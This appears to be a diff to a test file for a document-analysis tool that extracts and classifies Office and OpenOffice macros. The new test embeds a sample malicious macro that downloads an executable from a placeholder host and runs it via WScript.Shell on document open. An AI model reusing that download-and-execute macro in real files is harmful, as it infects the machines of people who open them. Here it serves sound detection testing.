@@ -11,7 +11,7 @@ from msoffcrypto.format.ooxml import OOXMLFile
 
 from lazaretto.analysis.cage.host import Cage, sheet
 from lazaretto.analysis.documents import locked
-from lazaretto.analysis.engine import Subject
+from lazaretto.analysis.engine import Member, Subject
 from lazaretto.analysis.examine import Examiner
 from lazaretto.analysis.findings import load_meanings
 from lazaretto.analysis.identify import identify
@@ -30,7 +30,7 @@ def test_macros_are_parts() -> None:
     assert found["Other.bas"].relation == "macro"
     assert found["Other.bas"].data == b'Attribute VB_Name = "Other"\n\' b'
     basic = members(look(office.examine, odt("Sub Main\nEnd Sub")))
-    assert basic["Module1.bas"].data == b"Sub Main\nEnd Sub"
+    assert basic["Module1.bas"].data == b'Attribute VB_Name = "Module1"\nSub Main\nEnd Sub'
 
 
 def test_other_languages_of_openoffice_are_parts() -> None:
@@ -160,3 +160,13 @@ def test_in_the_cage_with_all_engines() -> None:
 def test_every_finding_of_the_catalogue_is_tested_here() -> None:
     text = Path(__file__).read_text()
     assert [name for name in MEANINGS.by_id if name.startswith("document-encrypted") and f'"{name}"' not in text] == []
+
+
+def test_macros_are_judged_once() -> None:
+    """The engine of macros owns them: to the engine of scripts they would look like VBScript."""
+    body = 'CreateObject("MSXML2.XMLHTTP").Open "GET", "http://a.example/b.exe"\nCreateObject("WScript.Shell").Run "b"'
+    for data in (docm(f"Sub Document_Open()\n{body}\nEnd Sub\n"), odt(f"Sub Main\n{body}\nEnd Sub")):
+        macros = [one for one in look(office.examine, data) if isinstance(one, Member) and one.relation == "macro"]
+        assert macros
+        assert {identify(one.data, one.name).name for one in macros} == {"vba"}
+        assert all(one.data.count(b"Attribute VB_Name") == 1 for one in macros)
